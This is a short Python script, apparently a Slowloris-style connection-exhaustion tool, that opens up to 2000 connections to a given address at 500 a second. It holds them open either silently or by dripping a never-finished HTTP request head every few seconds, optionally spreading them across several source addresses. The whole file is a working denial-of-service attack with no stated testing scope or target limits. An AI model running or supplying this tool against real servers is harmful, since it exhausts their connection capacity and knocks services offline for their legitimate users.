"""Connections that are opened and then held: nothing is sent over them, or a request's head that never ends.

    python3 holder.py ADDRESS --connections 2000 --seconds 25 [--send slow] [--port 80] [--source ADDRESS ...]

Opens at most 500 a second, and none twice. Prints how many were open in the end.
"""

import argparse
import socket
import time

PER_SECOND = 500
HEAD = b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0\r\n"
DRIP_EVERY_S = 4.0


def opened(given, number):
    """Begin one connection; None if that can't even begin."""
    connection = socket.socket()
    connection.setblocking(False)
    try:
        if given.source:
            connection.bind((given.source[number % len(given.source)], 0))
        connection.connect_ex((given.address, given.port))
    except OSError:
        connection.close()
        return None
    return connection


def dripping(connection, greeted, greet, number):
    """Send the next bit of a head; the connection, or None if the server has ended it."""
    try:
        connection.send(b"X-Next: 1\r\n" if greeted else HEAD)
        greet(number)
    except BlockingIOError:
        pass
    except OSError:
        connection.close()
        return None
    return connection


def main():
    """Entry point."""
    parser = argparse.ArgumentParser()
    parser.add_argument("address")
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--connections", type=int, default=2000)
    parser.add_argument("--seconds", type=float, default=25)
    parser.add_argument("--send", choices=["nothing", "slow"], default="nothing")
    parser.add_argument("--source", nargs="*", default=[])
    given = parser.parse_args()
    began = time.monotonic()
    held, greeted, dripped = [], set(), 0.0
    while time.monotonic() - began < given.seconds:
        while len(held) < min(given.connections, PER_SECOND * (time.monotonic() - began)):
            held.append(opened(given, len(held)))
        if given.send == "slow" and time.monotonic() - dripped > DRIP_EVERY_S:
            dripped = time.monotonic()
            for number, connection in enumerate(held):
                if connection is not None:
                    held[number] = dripping(connection, number in greeted, greeted.add, number)
        time.sleep(0.02)
    print(sum(connection is not None for connection in held))


if __name__ == "__main__":
    main()
